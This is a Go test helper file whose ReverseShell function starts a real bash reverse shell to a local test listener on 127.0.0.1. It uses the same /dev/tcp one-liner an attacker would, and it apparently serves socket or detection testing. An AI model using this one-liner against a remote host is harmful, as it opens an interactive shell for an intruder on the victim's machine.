//go:build linux

package sockettest

import (
	"fmt"
	"net"
	"os/exec"
	"testing"
)

// ReverseShell starts a real reverse shell to ln, the way an attacker's
// one-liner does (bash's /dev/tcp on descriptor 3, then `bash -i` with its
// input, output and errors on it), and returns the shell and the accepted
// connection it talks on. It skips the test without bash; the shell is
// killed and the connection closed when the test ends.
func ReverseShell(t testing.TB, ln net.Listener) (*exec.Cmd, net.Conn) {
	t.Helper()
	bash, err := exec.LookPath("bash")
	if err != nil {
		t.Skip("no bash")
	}
	port := ln.Addr().(*net.TCPAddr).Port
	cmd := exec.Command(bash, "-c", fmt.Sprintf("exec 3<>/dev/tcp/127.0.0.1/%d; exec bash -i <&3 >&3 2>&3", port))
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { cmd.Process.Kill(); cmd.Wait() })
	conn, err := ln.Accept()
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { conn.Close() })
	return cmd, conn
}
